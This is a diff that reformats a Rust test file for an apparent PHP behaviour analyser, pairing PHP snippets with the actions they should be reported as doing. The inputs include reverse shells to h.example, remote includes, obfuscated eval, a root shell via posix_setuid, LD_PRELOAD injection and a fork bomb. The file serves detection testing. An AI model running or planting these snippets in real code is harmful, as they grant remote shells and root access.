@@ -14,24 +14,15 @@ fn running_is_seen_through_every_spelling() {
             ("@passthru('id');", &["shell id"]),
             ("SYSTEM('id');", &["shell id"]),
             ("\\system('id');", &["shell id"]),
-            (
-                "$r=array(); exec('id', $r); print(join(\"\\n\",$r));",
-                &["shell id"],
-            ),
+            ("$r=array(); exec('id', $r); print(join(\"\\n\",$r));", &["shell id"]),
             ("$h=@popen('id','r');", &["shell id"]),
             ("pcntl_exec('/bin/sh', ['-p']);", &["argv /bin/sh|-p"]),
             ("$f='sys'.'tem'; $f('id');", &["shell id"]),
             ("call_user_func('system','id');", &["shell id"]),
             ("array_map('system', ['id']);", &["shell id"]),
             ("('sys'.'tem')('id');", &["shell id"]),
-            (
-                "eval(base64_decode('ZWNobyAxOw=='));",
-                &["eval php echo 1;"],
-            ),
-            (
-                "eval(gzinflate(base64_decode('S03OyFcwtAYA')));",
-                &["eval php echo 1;"],
-            ),
+            ("eval(base64_decode('ZWNobyAxOw=='));", &["eval php echo 1;"]),
+            ("eval(gzinflate(base64_decode('S03OyFcwtAYA')));", &["eval php echo 1;"]),
             ("eval(str_rot13('rpub 1;'));", &["eval php echo 1;"]),
             ("system(strrev('di'));", &["shell id"]),
             ("$c='id'; system(\"$c -u\");", &["shell id -u"]),
@@ -40,26 +31,14 @@ fn running_is_seen_through_every_spelling() {
             ("<?php system('id'); ?>", &["shell id"]),
             ("<html><?= `id` ?></html>", &["shell id"]),
             ("include '/srv/x.php';", &["script php /srv/x.php"]),
-            (
-                "include('http://h.example/x');",
-                &["fetch http://h.example/x", "received"],
-            ),
+            ("include('http://h.example/x');", &["fetch http://h.example/x", "received"]),
             ("system(getenv('TARGET'));", &["shell /srv/data.bin"]),
             ("system($argv[1]);", &["shell first-arg"]),
-            (
-                "posix_setuid(0); system('/bin/sh -i');",
-                &["user 0", "shell /bin/sh -i"],
-            ),
+            ("posix_setuid(0); system('/bin/sh -i');", &["user 0", "shell /bin/sh -i"]),
             ("function r($c) { system($c); } r('id');", &["shell id"]),
-            (
-                "foreach (['id','who'] as $c) system($c);",
-                &["shell {id|who}"],
-            ),
+            ("foreach (['id','who'] as $c) system($c);", &["shell {id|who}"]),
             ("system(<<<X\necho hi\nX);", &["shell echo hi\n"]),
-            (
-                "$x=create_function('','return 1;');",
-                &["eval php return 1;"],
-            ),
+            ("$x=create_function('','return 1;');", &["eval php return 1;"]),
             ("while(true) { pcntl_fork(); }", &["exhaust"]),
         ],
     );
@@ -71,26 +50,11 @@ fn files_and_connections() {
         Php,
         &[
             ("readfile('/etc/hosts');", &["read /etc/hosts"]),
-            (
-                "echo file_get_contents(\"/etc/hosts\");",
-                &["read /etc/hosts"],
-            ),
-            (
-                "file_put_contents('/tmp/x', 'DATA');",
-                &["write /tmp/x <- DATA"],
-            ),
-            (
-                "file_put_contents('/tmp/x', 'DATA', FILE_APPEND);",
-                &["append /tmp/x <- DATA"],
-            ),
-            (
-                "$f=fopen('/tmp/x','w'); fwrite($f,'DATA');",
-                &["write /tmp/x <- DATA"],
-            ),
-            (
-                "unlink('/tmp/x'); chmod('/tmp/y', 04755);",
-                &["delete /tmp/x", "mode 4755 /tmp/y"],
-            ),
+            ("echo file_get_contents(\"/etc/hosts\");", &["read /etc/hosts"]),
+            ("file_put_contents('/tmp/x', 'DATA');", &["write /tmp/x <- DATA"]),
+            ("file_put_contents('/tmp/x', 'DATA', FILE_APPEND);", &["append /tmp/x <- DATA"]),
+            ("$f=fopen('/tmp/x','w'); fwrite($f,'DATA');", &["write /tmp/x <- DATA"]),
+            ("unlink('/tmp/x'); chmod('/tmp/y', 04755);", &["delete /tmp/x", "mode 4755 /tmp/y"]),
             (
                 "$c=file_get_contents('http://h.example/x'); file_put_contents('/tmp/x', $c);",
                 &["fetch http://h.example/x", "write /tmp/x <- ‹received›"],
@@ -101,11 +65,7 @@ fn files_and_connections() {
             ),
             (
                 "$sock=fsockopen('h.example',99);exec('/bin/sh -i <&3 >&3 2>&3');",
-                &[
-                    "connect h.example 99",
-                    "attach",
-                    "shell /bin/sh -i <&3 >&3 2>&3",
-                ],
+                &["connect h.example 99", "attach", "shell /bin/sh -i <&3 >&3 2>&3"],
             ),
             (
                 "$s=fsockopen('h.example',99);proc_open('sh',[$s,$s,$s],$p);",
@@ -115,10 +75,7 @@ fn files_and_connections() {
                 "$s=fsockopen('tcp://h.example',99); while($c=fgets($s)) { echo shell_exec($c); }",
                 &["connect tcp://h.example 99", "received"],
             ),
-            (
-                "$s=stream_socket_client('tcp://h.example:99');",
-                &["connect h.example 99"],
-            ),
+            ("$s=stream_socket_client('tcp://h.example:99');", &["connect h.example 99"]),
             (
                 "putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c');",
                 &["setenv LD_PRELOAD=/tmp/x.so"],
@@ -133,17 +90,11 @@ fn harmless_look_alikes_give_nothing() {
         Php,
         &[
             ("echo 'system(1)';", &["print system(1)"]),
-            (
-                "// system('x')\n# exec('y')\n/* eval(1) */ echo 1;",
-                &["print 1"],
-            ),
+            ("// system('x')\n# exec('y')\n/* eval(1) */ echo 1;", &["print 1"]),
             ("echo PHP_VERSION;", &[]),
             ("phpinfo();", &[]),
             ("$db->exec('SELECT 1');", &[]),
-            (
-                "$pdo = new PDO('sqlite::memory:'); $pdo->exec(\"CREATE TABLE x(y)\");",
-                &[],
-            ),
+            ("$pdo = new PDO('sqlite::memory:'); $pdo->exec(\"CREATE TABLE x(y)\");", &[]),
             ("echo json_encode(['system'=>1]);", &[]),
             ("echo date('Y-m-d');", &[]),
             ("<b>system('x')</b>", &[]),
